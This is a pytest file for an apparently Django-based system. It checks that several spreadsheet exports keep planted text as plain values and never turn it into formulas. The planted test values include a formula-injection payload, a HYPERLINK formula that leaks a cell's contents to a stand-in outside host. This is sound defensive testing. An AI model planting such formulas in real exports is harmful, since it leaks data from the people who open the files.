"""Text planted to run in a spreadsheet (`=HYPERLINK(...)`, `+1`, `-1`, `@SUM(A1)`) in every text field
that reaches an export comes back from each export as typed text, never as a formula."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from institutions import services as institution_services
from institutions.exports import hazard_ledger_xlsx
from institutions.models import Hazard
from people.exports import roster_workbook
from people.roster.columns import template_workbook
from tests.institutions.factories import InstitutionFactory
from tests.people.factories import PersonFactory, household_with_head

PLANTED = ['=HYPERLINK("http://x/?leak="&C2,"a")', "+1", "-1", "@SUM(A1)"]


def assert_no_formula(data: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", zf.read(name)), name
    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


@pytest.mark.django_db
@pytest.mark.parametrize("planted", PLANTED)
def test_roster_export_keeps_planted_text_as_typed(users, planted):
    household = household_with_head(name=planted)
    household.address = planted
    household.save(update_fields=["address"])
    PersonFactory(household=household, name=planted + "子")
    data, _count = roster_workbook(users["county"], {})
    values = assert_no_formula(data)
    assert planted in values and planted + "子" in values


@pytest.mark.django_db
@pytest.mark.parametrize("planted", PLANTED)
def test_hazard_ledger_keeps_planted_text_as_typed(users, regions, planted):
    institution = InstitutionFactory(region=regions["township"], name=planted)
    institution_services.hazard_raise(
        actor=users["county"], institution=institution, title=planted, severity="general", description=planted
    )
    values = assert_no_formula(hazard_ledger_xlsx(Hazard.objects.all()))
    assert planted in values


def test_roster_template_has_no_formula():
    assert_no_formula(template_workbook())


@pytest.mark.django_db
@pytest.mark.parametrize("planted", PLANTED)
def test_regions_export_keeps_planted_text_as_typed(
    users, regions, django_capture_on_commit_callbacks, planted
):
    from relief.jobs.services import job_start
    from relief.models import Job, JobState

    regions["village"].name = planted
    regions["village"].full_name = planted
    regions["village"].save(update_fields=["name", "full_name"])
    with django_capture_on_commit_callbacks(execute=True):
        job = job_start(actor=users["township"], kind="relief.regions_export", title="导出")
    job = Job.objects.get(pk=job.pk)
    assert job.state == JobState.SUCCEEDED
    values = assert_no_formula(job.result_file.read())
    assert planted in values


@pytest.mark.django_db
@pytest.mark.parametrize("planted", PLANTED)
def test_dashboard_export_keeps_planted_text_as_typed(users, regions, as_user, planted):
    regions["city"].name = planted
    regions["city"].save(update_fields=["name"])
    response = as_user(users["province"]).get("/dashboard/export/", {"region": "51"})
    assert response.status_code == 200
    values = assert_no_formula(response.content)
    assert planted in values
